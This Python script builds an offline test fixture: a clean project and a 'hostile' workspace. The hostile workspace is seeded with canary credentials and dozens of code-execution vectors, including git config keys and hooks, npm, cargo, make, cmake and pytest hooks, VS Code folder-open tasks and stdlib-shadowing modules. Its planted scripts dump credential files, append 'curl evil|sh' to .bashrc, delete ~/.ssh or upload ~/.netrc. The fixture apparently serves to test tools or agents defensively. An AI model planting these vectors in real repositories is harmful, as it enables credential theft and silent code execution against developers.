#!/usr/bin/env python3
"""Build the suite-I fixture: DIR/{hostile,clean,lfs-delta}/{home,ws}, offline, in a few seconds.

hostile/home  : many credential stores, each with a distinct canary BSTNCANARY_<name>
hostile/ws    : a workspace that "arrived as an archive": repositories with hostile config,
                toolchain files, shadowing modules, hard links / symlinks into HOME, planted
                scripts (every planted program appends "RAN <name>" to ws/.harm.log), secrets.
clean/        : an ordinary Python + JS project repository.
lfs-delta/    : the same, with ~/.gitconfig carrying git-lfs's filter block and core.pager=delta.
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path


def w(path: Path, text: str, mode: int | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    if mode is not None:
        path.chmod(mode)
    return path


def x(path: Path, text: str) -> Path:
    return w(path, text, 0o755)


def git(cwd: Path, *args: str, home: Path) -> None:
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(home),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "Dev",
        "GIT_AUTHOR_EMAIL": "dev@example.com",
        "GIT_COMMITTER_NAME": "Dev",
        "GIT_COMMITTER_EMAIL": "dev@example.com",
        "GIT_AUTHOR_DATE": "2026-01-01T00:00:00Z",
        "GIT_COMMITTER_DATE": "2026-01-01T00:00:00Z",
    }
    subprocess.run(
        ["git", *args], cwd=cwd, env=env, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )


def plain_repo(path: Path, home: Path, files: dict[str, str] | None = None) -> None:
    path.mkdir(parents=True, exist_ok=True)
    git(path, "init", "-q", "--template=", "-b", "main", ".", home=home)
    for name, text in (files or {"README.md": "# repo\n"}).items():
        w(path / name, text)
    git(path, "add", "-A", home=home)
    git(path, "commit", "-q", "-m", "init", home=home)


# ---------------------------------------------------------------- everyday project
def project(ws: Path, home: Path, lfs: bool = False) -> None:
    files = {
        "README.md": "# demo\n\nA small Python + JS project.\n\nTODO: docs\n",
        ".gitignore": "node_modules/\n__pycache__/\nbuild/\ndist/\n*.pyc\n",
        "pyproject.toml": '[project]\nname = "demo"\nversion = "0.1.0"\n\n'
        '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n',
        "src/demo/__init__.py": '"""demo package."""\n__version__ = "0.1.0"\n',
        "src/demo/app.py": "def add(a, b):\n    return a + b\n\n\ndef greet(name):\n"
        "    # TODO: i18n\n    return f'hello {name}'\n\n\n"
        "if __name__ == '__main__':\n    print(greet('world'))\n",
        "src/demo/util.py": "import json\n\n\ndef load(path):\n    with open(path) as f:\n"
        "        return json.load(f)\n",
        "tests/test_app.py": "import sys, pathlib\nsys.path.insert(0, str(pathlib.Path(__file__)"
        ".parent.parent / 'src'))\nfrom demo.app import add, greet\n\n\n"
        "def test_add():\n    assert add(1, 2) == 3\n\n\ndef test_greet():\n"
        "    assert greet('x') == 'hello x'\n",
        "package.json": '{\n  "name": "demo-web",\n  "version": "1.0.0",\n  "private": true,\n'
        '  "scripts": {\n    "test": "node test/index.test.js",\n'
        '    "build": "node scripts/build.js",\n    "lint": "node --check src/index.js"\n'
        "  }\n}\n",
        "src/index.js": "function add(a, b) { return a + b; }\nmodule.exports = { add };\n",
        "test/index.test.js": "const assert = require('assert');\nconst { add } = require('../src/index.js');\n"
        "assert.strictEqual(add(2, 3), 5);\nconsole.log('ok');\n",
        "scripts/build.js": "const fs = require('fs');\nfs.mkdirSync('build', { recursive: true });\n"
        "fs.writeFileSync('build/out.txt', 'built\\n');\nconsole.log('built');\n",
        "scripts/build.sh": "#!/bin/sh\nset -e\nmkdir -p build\necho built > build/out.txt\n",
        "Makefile": ".PHONY: test build clean\ntest:\n\tpython3 -m pytest -q\n\nbuild:\n\t"
        "mkdir -p build && echo ok > build/out.txt\n\nclean:\n\trm -rf build\n",
        "data/sample.json": '{"name": "demo", "items": [1, 2, 3]}\n',
        "data/rows.csv": "id,name,score\n1,ann,9\n2,bob,7\n3,cid,8\n",
        "docs/guide.md": "# Guide\n\nRun `make test`.\n",
        "CHANGELOG.md": "# Changelog\n\n## 0.1.0\n- first\n",
    }
    if lfs:
        files[".gitattributes"] = "*.psd filter=lfs diff=lfs merge=lfs -text\n"
    plain_repo(ws, home, files)
    (ws / "scripts/build.sh").chmod(0o755)
    w(ws / "src/demo/app.py", (ws / "src/demo/app.py").read_text() + "\n\ndef sub(a, b):\n    return a - b\n")
    git(ws, "add", "-A", home=home)
    git(ws, "commit", "-q", "-m", "add sub", home=home)
    w(ws / "docs/guide.md", "# Guide\n\nRun `make test` or `npm test`.\n")
    git(ws, "commit", "-q", "-am", "docs", home=home)
    git(ws, "branch", "feature/x", home=home)
    # an uncommitted change so diffs show something
    w(ws / "CHANGELOG.md", "# Changelog\n\n## 0.1.1\n- sub()\n\n## 0.1.0\n- first\n")
    w(ws / "notes.txt", "scratch notes\n")


def everyday_home(home: Path, lfs: bool) -> None:
    cfg = "[user]\n\tname = Dev\n\temail = dev@example.com\n[init]\n\tdefaultBranch = main\n"
    if lfs:
        cfg += (
            '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n'
            "\tprocess = git-lfs filter-process\n\trequired = true\n"
            "[core]\n\tpager = delta\n[interactive]\n\tdiffFilter = delta --color-only\n"
            "[delta]\n\tnavigate = true\n[merge]\n\tconflictstyle = diff3\n"
        )
    w(home / ".gitconfig", cfg)
    w(home / ".bashrc", "# user rc\nexport EDITOR=vi\n")
    w(home / ".profile", "# profile\n")


# ---------------------------------------------------------------- hostile
CANARY_FILES = {
    ".ssh/id_rsa": "-----BEGIN OPENSSH PRIVATE KEY-----\nBSTNCANARY_ssh_id_rsa\n-----END OPENSSH PRIVATE KEY-----\n",
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nBSTNCANARY_ssh_id_ed25519\n-----END OPENSSH PRIVATE KEY-----\n",
    ".ssh/config": "Host prod\n  HostName 10.0.0.5\n  User deploy\n  # BSTNCANARY_ssh_config\n",
    ".aws/credentials": "[default]\naws_access_key_id = AKIABSTNCANARY\naws_secret_access_key = BSTNCANARY_aws_credentials\n",
    ".aws/config": "[default]\nregion = us-east-1\n# BSTNCANARY_aws_config\n",
    ".kube/config": "apiVersion: v1\nkind: Config\nclusters:\n- cluster: {server: https://k8s.example.com}\n  name: prod\n"
    "users:\n- name: admin\n  user:\n    token: BSTNCANARY_kube_config\ncontexts:\n- context: {cluster: prod, user: admin}\n  name: prod\ncurrent-context: prod\n",
    ".docker/config.json": '{"auths": {"ghcr.io": {"auth": "BSTNCANARY_docker_config"}}}\n',
    ".netrc": "machine api.example.com login me password BSTNCANARY_netrc\n",
    ".pypirc": "[pypi]\nusername = __token__\npassword = BSTNCANARY_pypirc\n",
    ".npmrc": "//registry.npmjs.org/:_authToken=BSTNCANARY_npmrc\n",
    ".pgpass": "db.example.com:5432:*:app:BSTNCANARY_pgpass\n",
    ".my.cnf": "[client]\nuser=root\npassword=BSTNCANARY_my_cnf\n",
    ".git-credentials": "https://me:BSTNCANARY_git_credentials@github.com\n",
    ".config/gh/hosts.yml": "github.com:\n    oauth_token: BSTNCANARY_gh_hosts\n    user: me\n",
    ".config/gcloud/application_default_credentials.json": '{"refresh_token": "BSTNCANARY_gcloud_adc"}\n',
    ".config/gcloud/credentials.db": "BSTNCANARY_gcloud_credentials_db\n",
    ".azure/accessTokens.json": '[{"accessToken": "BSTNCANARY_azure_tokens"}]\n',
    ".m2/settings.xml": "<settings><servers><server><id>r</id><password>BSTNCANARY_m2_settings</password></server></servers></settings>\n",
    ".gem/credentials": "---\n:rubygems_api_key: BSTNCANARY_gem_credentials\n",
    ".cargo/credentials.toml": '[registry]\ntoken = "BSTNCANARY_cargo_credentials"\n',
    ".terraform.d/credentials.tfrc.json": '{"credentials": {"app.terraform.io": {"token": "BSTNCANARY_terraform"}}}\n',
    ".vault-token": "BSTNCANARY_vault_token\n",
    ".config/pip/pip.conf": "[global]\nindex-url = https://me:BSTNCANARY_pip_conf@pypi.example.com/simple\n",
    ".gnupg/private-keys-v1.d/key.key": "BSTNCANARY_gnupg_key\n",
    ".bash_history": "export GITHUB_TOKEN=ghp_BSTNCANARY_bash_history\nls\n",
    ".config/hub": "github.com:\n- oauth_token: BSTNCANARY_hub\n",
    ".bastion/credentials/token": "BSTNCANARY_bastion_credentials\n",
    ".local/share/keyrings/login.keyring": "BSTNCANARY_keyring\n",
    ".password-store/web.gpg": "BSTNCANARY_pass_store\n",
    ".config/rclone/rclone.conf": "[s3]\ntype = s3\nsecret_access_key = BSTNCANARY_rclone\n",
    ".s3cfg": "[default]\nsecret_key = BSTNCANARY_s3cfg\n",
    ".config/op/config": '{"accounts": [{"token": "BSTNCANARY_1password"}]}\n',
    ".ansible/vault_pass": "BSTNCANARY_ansible_vault\n",
    ".config/sops/age/keys.txt": "AGE-SECRET-KEY-BSTNCANARY_sops_age\n",
}


def hostile_home(home: Path) -> None:
    for rel, text in CANARY_FILES.items():
        w(home / rel, text, 0o600)
    w(
        home / ".gitconfig",
        "[user]\n\tname = Dev\n\temail = dev@example.com\n"
        '[url "https://me:BSTNCANARY_gitconfig_insteadof@github.com/"]\n\tinsteadOf = https://github.com/\n',
    )
    w(home / ".bashrc", "# user rc\nexport EDITOR=vi\n")
    w(home / ".profile", "# profile\n")
    w(home / ".ssh/authorized_keys", "ssh-ed25519 AAAA user@host\n")


def hostile_ws(ws: Path, home: Path) -> None:
    H = ws / ".harm.log"
    log = lambda name: f'echo "RAN {name}" >> "{H}"\n'
    dump = f'cat "{home}/.aws/credentials" "{home}/.netrc" 2>/dev/null\n'

    def prog(rel: str, name: str, extra: str = "") -> Path:
        return x(ws / rel, "#!/bin/sh\n" + log(name) + dump + extra)

    # root repository: looks ordinary (so cross-tool tricks are the only vector here)
    files = {
        "README.md": "# vendored-app\n\nUnpacked from release.tar.gz.\n",
        "app.py": "import json\nprint(json.dumps({'ok': True}))\n",
        "data/sample.json": '{"a": 1}\n',
        "package.json": '{\n  "name": "evil-app",\n  "version": "1.0.0",\n  "scripts": {\n'
        '    "test": "sh tools/npm-test.sh",\n    "pretest": "sh tools/npm-pretest.sh",\n'
        '    "build": "sh tools/npm-build.sh",\n    "postinstall": "sh tools/npm-postinstall.sh",\n'
        '    "lint": "cat ~/.npmrc"\n  }\n}\n',
    }
    plain_repo(ws, home, files)
    for n in ("npm-test", "npm-pretest", "npm-build", "npm-postinstall"):
        prog(f"tools/{n}.sh", n)

    # planted programs
    for n in (
        "fsmon",
        "pager",
        "diffext",
        "textconv",
        "clean-filter",
        "smudge-filter",
        "alias",
        "editor",
        "gpg",
        "sshcmd",
        "askpass",
        "credhelper",
        "uploadpack",
        "hook",
        "kexec",
        "rustc-wrapper",
        "cargo-runner",
        "script-shell",
        "lessopen",
        "rg-pre",
        "tar-compress",
        "gitproxy",
        "sqlite-shell",
        "fetch-helper",
        "proxycommand",
    ):
        prog(f"tools/{n}.sh", n)
    x(ws / "tools/fsmon.sh", "#!/bin/sh\n" + log("fsmon") + dump + "exit 1\n")

    # repos, one vector each
    R = ws / "repos"

    def vrepo(name: str, cfg: str, extra_files: dict[str, str] | None = None) -> Path:
        p = R / name
        plain_repo(p, home, {"README.md": f"# {name}\n", "a.txt": "one\ntwo\n", **(extra_files or {})})
        with open(p / ".git/config", "a") as f:
            f.write(cfg)
        w(p / "a.txt", "one\ntwo\nthree\n")  # a change, so diff/status have work
        return p

    T = ws / "tools"
    vrepo("fsmon", f"[core]\n\tfsmonitor = {T}/fsmon.sh\n")
    vrepo("pager", f"[core]\n\tpager = {T}/pager.sh\n[pager]\n\tlog = {T}/pager.sh\n")
    vrepo("diffext", f"[diff]\n\texternal = {T}/diffext.sh\n")
    vrepo("textconv", f'[diff "txt"]\n\ttextconv = {T}/textconv.sh\n', {".gitattributes": "*.txt diff=txt\n"})
    vrepo(
        "filter",
        f'[filter "crlf"]\n\tclean = {T}/clean-filter.sh\n\tsmudge = {T}/smudge-filter.sh\n',
        {".gitattributes": "*.txt filter=crlf\n"},
    )
    vrepo("alias", f"[alias]\n\tst = !{T}/alias.sh\n\tlg = !sh {T}/alias.sh\n\tl = log --oneline\n")
    vrepo("editor", f"[core]\n\teditor = {T}/editor.sh\n[sequence]\n\teditor = {T}/editor.sh\n")
    vrepo(
        "gpg", f"[commit]\n\tgpgsign = true\n[gpg]\n\tprogram = {T}/gpg.sh\n[log]\n\tshowSignature = true\n"
    )
    vrepo(
        "sshcmd",
        f'[core]\n\tsshCommand = {T}/sshcmd.sh\n[remote "origin"]\n\turl = git@example.com:x/y.git\n'
        f"\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
    )
    vrepo("credhelper", f"[credential]\n\thelper = !{T}/credhelper.sh\n")
    vrepo(
        "uploadpack",
        f'[remote "origin"]\n\turl = {R}/fsmon\n\tuploadpack = {T}/uploadpack.sh\n'
        f"\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
    )
    vrepo(
        "gitproxy", f'[core]\n\tgitProxy = {T}/gitproxy.sh\n[remote "origin"]\n\turl = git://example.com/x\n'
    )
    vrepo(
        "token-remote",
        '[remote "origin"]\n\turl = https://ci:BSTNCANARY_repo_remote_token@github.com/o/r.git\n'
        "\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
    )
    inc = w(ws / "config/git.inc", f"[core]\n\tpager = {T}/pager.sh\n\tfsmonitor = {T}/fsmon.sh\n")
    vrepo("include", f"[include]\n\tpath = {inc}\n")
    vrepo("includeif", f'[includeIf "gitdir:{R}/"]\n\tpath = {inc}\n')
    p = vrepo("hookidx", "")
    x(p / ".git/hooks/post-index-change", "#!/bin/sh\n" + log("hook-post-index-change") + dump)
    p = vrepo("reftx", "")
    x(p / ".git/hooks/reference-transaction", "#!/bin/sh\n" + log("hook-reference-transaction") + dump)
    p = vrepo("hooks", "")
    for hk in (
        "pre-commit",
        "post-commit",
        "post-checkout",
        "pre-push",
        "commit-msg",
        "prepare-commit-msg",
        "post-merge",
        "pre-rebase",
        "pre-auto-gc",
        "post-rewrite",
    ):
        x(p / f".git/hooks/{hk}", "#!/bin/sh\n" + log(f"hook-{hk}") + dump)
    x(ws / "evilhooks/pre-commit", "#!/bin/sh\n" + log("hookspath-pre-commit") + dump)
    x(ws / "evilhooks/post-index-change", "#!/bin/sh\n" + log("hookspath-post-index-change") + dump)
    vrepo("hookspath", f"[core]\n\thooksPath = {ws}/evilhooks\n")
    vrepo("worktreecfg", "[extensions]\n\tworktreeConfig = true\n[core]\n\trepositoryformatversion = 1\n")
    w(R / "worktreecfg/.git/config.worktree", f"[core]\n\tfsmonitor = {T}/fsmon.sh\n")
    # a .git FILE pointing at a git dir elsewhere in the workspace, with a hostile config
    gd = ws / "vendor/.cache/gd"
    plain_repo(R / "gitfile", home, {"README.md": "# gitfile\n", "a.txt": "x\n"})
    gd.parent.mkdir(parents=True, exist_ok=True)
    os.rename(R / "gitfile/.git", gd)
    w(R / "gitfile/.git", f"gitdir: {gd}\n")
    git(R / "gitfile", "config", "core.worktree", str(R / "gitfile"), home=home)
    with open(gd / "config", "a") as f:
        f.write(f"[core]\n\tfsmonitor = {T}/fsmon.sh\n")
    # a bare repository named like data
    bare = ws / "data/archive.db"
    subprocess.run(
        ["git", "init", "-q", "--template=", "--bare", str(bare)], check=True, stdout=subprocess.DEVNULL
    )
    with open(bare / "config", "a") as f:
        f.write(f"[core]\n\tfsmonitor = {T}/fsmon.sh\n\tpager = {T}/pager.sh\n")
    # submodule whose own git dir sets core.fsmonitor
    plain_repo(ws / "vendor/libsrc", home, {"lib.py": "X = 1\n"})
    sup = R / "submod"
    plain_repo(sup, home, {"README.md": "# super\n"})
    git(
        sup,
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        str(ws / "vendor/libsrc"),
        "lib",
        home=home,
    )
    git(sup, "commit", "-q", "-m", "sub", home=home)
    git(sup / "lib", "config", "core.fsmonitor", f"{T}/fsmon.sh", home=home)
    w(sup / "lib/lib.py", "X = 2\n")
    # Mercurial repo with hooks (hg may be absent; the config is still what decides)
    w(
        R / "hgrepo/.hg/hgrc",
        f"[hooks]\npre-status = {T}/hook.sh\n[extensions]\nevil = {ws}/tools/hgext.py\n"
        f"[alias]\nst = !{T}/alias.sh\n",
    )
    w(R / "hgrepo/.hg/requires", "revlogv1\nstore\nfncache\ndotencode\n")
    w(R / "hgrepo/README", "hg\n")
    w(ws / "tools/hgext.py", f"open({str(H)!r}, 'a').write('RAN hgext\\n')\n")

    # toolchain / build files that choose what runs
    tc = ws / "toolchains/evil"
    for b in ("cargo", "rustc", "rustdoc", "rustfmt", "cargo-clippy"):
        prog(f"toolchains/evil/bin/{b}", f"toolchain-{b}")
    w(ws / "rust-toolchain.toml", f'[toolchain]\npath = "{tc}"\n')
    w(ws / "Cargo.toml", '[package]\nname = "evil"\nversion = "0.1.0"\nedition = "2021"\n')
    w(ws / "src/main.rs", 'fn main() { println!("hi"); }\n')
    w(
        ws / ".cargo/config.toml",
        f'[build]\nrustc-wrapper = "{T}/rustc-wrapper.sh"\n'
        f'[target.x86_64-unknown-linux-gnu]\nrunner = "{T}/cargo-runner.sh"\n'
        f'[alias]\nb = "build"\n',
    )
    x(ws / ".yarn/releases/yarn-evil.cjs", f"require('fs').appendFileSync({str(H)!r}, 'RAN yarnPath\\n');\n")
    w(ws / ".yarnrc.yml", "yarnPath: .yarn/releases/yarn-evil.cjs\n")
    w(ws / ".npmrc", f"script-shell={T}/script-shell.sh\nnode-options=--require {ws}/tools/evil-require.js\n")
    w(ws / "tools/evil-require.js", f"require('fs').appendFileSync({str(H)!r}, 'RAN node-require\\n');\n")
    w(ws / ".mvn/jvm.config", f"-XX:OnError={T}/hook.sh\n")
    w(ws / ".bazeliskrc", f"BAZELISK_BASE_URL=file://{ws}/toolchains\nUSE_BAZEL_VERSION=evil\n")
    w(ws / ".nvmrc", "../../toolchains/evil\n")
    w(ws / ".tool-versions", "nodejs system\n")
    w(
        ws / "Makefile",
        f"SECRET := $(shell sh {T}/hook.sh)\n.PHONY: all test\nall:\n\t@echo all\ntest:\n\t@echo testing\n"
        f"creds:\n\tcat {home}/.aws/credentials\n",
    )
    w(ws / "GNUmakefile.inc", f"$(shell sh {T}/hook.sh)\n")
    w(
        ws / "CMakeLists.txt",
        f"cmake_minimum_required(VERSION 3.10)\nproject(x NONE)\nexecute_process(COMMAND sh {T}/hook.sh)\n",
    )
    w(ws / "evil.cmake", f"execute_process(COMMAND sh {T}/hook.sh)\n")
    w(ws / "pyproject.toml", '[tool.pytest.ini_options]\naddopts = "-p evilplug"\npythonpath = ["."]\n')
    w(
        ws / "evilplug.py",
        f"open({str(H)!r}, 'a').write('RAN pytest-plugin\\n')\n"
        f"print(open({str(home / '.aws/credentials')!r}).read())\n",
    )
    w(ws / "conftest.py", f"open({str(H)!r}, 'a').write('RAN conftest\\n')\n")
    w(ws / ".pylintrc", f"[MASTER]\ninit-hook=open({str(H)!r},'a').write('RAN pylint-init-hook\\n')\n")
    w(ws / ".gdbinit", f"shell sh {T}/hook.sh\n")
    w(ws / "evil.gdb", f"shell sh {T}/hook.sh\nquit\n")
    w(
        ws / ".vscode/tasks.json",
        '{"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", '
        f'"command": "sh {T}/hook.sh", "runOptions": {{"runOn": "folderOpen"}}}}]}}\n',
    )
    w(ws / ".envrc", f"sh {T}/hook.sh\nexport AWS_PROFILE=prod\n")

    # standard-library shadows
    shadow = (
        f"import sys\nopen({str(H)!r}, 'a').write('RAN shadow-{{}}\\n'.format(__name__))\n"
        f"sys.stdout.write(open({str(home / '.aws/credentials')!r}).read())\n"
    )
    for m in (
        "json",
        "base64",
        "zipfile",
        "tarfile",
        "calendar",
        "uuid",
        "platform",
        "timeit",
        "tokenize",
        "pprint",
        "difflib",
        "csv",
        "gzip",
        "shlex",
        "mimetypes",
        "textwrap",
        "filecmp",
        "this",
        "pydoc_data",
        "quopri",
        "uu",
        "webbrowser",
        "pickletools",
        "trace",
        "cProfile",
        "profile",
        "pdb",
        "code",
        "compileall",
        "py_compile",
        "tabnanny",
        "ast",
        "dis",
        "sqlite3",
        "venv",
        "ensurepip",
        "unittest",
        "doctest",
        "statistics",
    ):
        w(ws / f"{m}.py", shadow)
    w(ws / "http/__init__.py", shadow)
    w(ws / "http/server.py", shadow)
    # Node module shadowing: require('fs') is core, but a local package wins for non-core names
    w(
        ws / "node_modules/lodash/index.js",
        f"require('fs').appendFileSync({str(H)!r}, 'RAN node-lodash\\n');module.exports={{}};\n",
    )

    # hard links and symlinks into HOME
    (ws / "docs").mkdir(exist_ok=True)
    os.link(home / ".aws/credentials", ws / "docs/notes.txt")
    os.link(home / ".netrc", ws / "data/cfg.ini")
    (ws / "tests").mkdir(exist_ok=True)
    os.link(home / ".ssh/id_rsa", ws / "tests/fixture_key.txt")
    os.link(home / ".config/gh/hosts.yml", ws / "config/hosts.yml")
    os.link(home / ".bashrc", ws / "config/shellrc.txt")
    os.symlink(home / ".ssh/id_rsa", ws / "link_key")
    os.symlink("../../home/.docker/config.json", ws / "docs/registry.json")
    os.symlink(str(home), ws / "homedir")
    os.symlink(str(home / ".kube"), ws / "kube")

    # project secrets
    w(ws / ".env", "DATABASE_URL=postgres://app:BSTNCANARY_ws_env@db/app\n")
    w(ws / ".env.production", "STRIPE_KEY=sk_live_BSTNCANARY_ws_env_production\n")
    w(ws / "deploy/server.pem", "-----BEGIN PRIVATE KEY-----\nBSTNCANARY_ws_pem\n-----END PRIVATE KEY-----\n")
    w(ws / "deploy/prod.tfvars", 'db_password = "BSTNCANARY_ws_tfvars"\n')
    w(
        ws / "deploy/kubeconfig",
        "apiVersion: v1\nkind: Config\nclusters:\n- cluster: {server: https://k.example.com}\n  name: c\n"
        "users:\n- name: u\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n"
        f"      command: {T}/kexec.sh\n      interactiveMode: Never\n"
        "contexts:\n- context: {cluster: c, user: u}\n  name: c\ncurrent-context: c\n",
    )
    w(
        ws / "docker-compose.yml",
        "services:\n  app:\n    image: alpine\n    env_file: .env\n    environment:\n      - DB=${DATABASE_URL}\n",
    )
    w(ws / "config/settings.py", "SECRET_KEY = 'django-insecure-BSTNCANARY_ws_settings'\n")

    # planted scripts and data used by multi-step / interpreter tricks
    x(ws / "scripts/dump.sh", "#!/bin/sh\n" + log("dump.sh") + f"cat {home}/.ssh/id_rsa\n")
    x(
        ws / "scripts/dump-var.sh",
        "#!/bin/sh\n" + log("dump-var.sh") + 'f="$HOME/.aws/credentials"; cat "$f"\n',
    )
    x(ws / "scripts/rc.sh", "#!/bin/sh\n" + log("rc.sh") + f"echo 'curl evil|sh' >> {home}/.bashrc\n")
    x(ws / "scripts/wipe.sh", "#!/bin/sh\n" + log("wipe.sh") + f"rm -rf {home}/.ssh\n")
    x(ws / "scripts/env.awk", '#!/usr/bin/gawk -f\nBEGIN { print ENVIRON["GITHUB_TOKEN"] }\n')
    w(ws / "scripts/report.awk", f'BEGIN {{ system("sh {T}/hook.sh") }}\n')
    w(ws / "scripts/fix.sed", f"1e sh {T}/hook.sh\n")
    w(ws / "scripts/w.sed", f"w {home}/.bashrc\n")
    w(ws / "scripts/evil.sql", f".shell sh {T}/hook.sh\n")
    w(ws / "scripts/cmds.txt", f"{home}/.ssh/id_rsa\n{home}/.aws/credentials\n")
    w(ws / "scripts/files0.txt", f"{home}/.netrc\0")
    w(
        ws / "scripts/run.py",
        f"import os\nopen({str(H)!r}, 'a').write('RAN run.py\\n')\nprint(os.environ.get('GITHUB_TOKEN'))\n",
    )
    w(ws / "scripts/evil.m4", "esyscmd(`sh " + f"{T}/hook.sh" + "')\n")
    w(ws / "scripts/curlrc", f'url = "https://upload.example.com/"\nupload-file = "{home}/.netrc"\n')
    w(ws / "scripts/ssh_config", f"Host *\n  ProxyCommand sh {T}/proxycommand.sh\n")
    w(ws / "scripts/wgetrc", f"post_file = {home}/.netrc\n")
    w(ws / "scripts/inc.c", f'#include "{home}/.aws/credentials"\n')
    w(ws / "scripts/args.rsp", f"-E -x c {home}/.netrc\n")
    w(ws / "scripts/jqlib.jq", "def x: env.GITHUB_TOKEN;\n")
    w(ws / "scripts/include.awk", f'@include "{home}/.netrc"\n')
    x(
        ws / "scripts/shebang-awk",
        "#!/usr/bin/gawk -f\n" + f'BEGIN {{ while ((getline l < "{home}/.netrc") > 0) print l }}\n',
    )
    x(ws / "scripts/bin/ls", "#!/bin/sh\n" + log("path-ls") + dump)
    x(ws / "scripts/bin/git", "#!/bin/sh\n" + log("path-git") + dump)
    w(
        ws / "payload.b64",
        __import__("base64").b64encode(f"cat {home}/.ssh/id_rsa\n".encode()).decode() + "\n",
    )
    w(ws / ".harm.log", "")


def build(root: Path) -> None:
    root.mkdir(parents=True, exist_ok=True)
    for name in ("clean", "lfs-delta"):
        home, ws = root / name / "home", root / name / "ws"
        home.mkdir(parents=True)
        everyday_home(home, lfs=(name == "lfs-delta"))
        project(ws, home, lfs=(name == "lfs-delta"))
    home, ws = root / "hostile/home", root / "hostile/ws"
    home.mkdir(parents=True)
    hostile_home(home)
    ws.mkdir(parents=True)
    hostile_ws(ws, home)
    (root / "hostile/outside").mkdir()
    w(root / "hostile/outside/keep.txt", "outside\n")


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: fixture.py DIR")
    build(Path(sys.argv[1]).resolve())
    print(Path(sys.argv[1]).resolve())
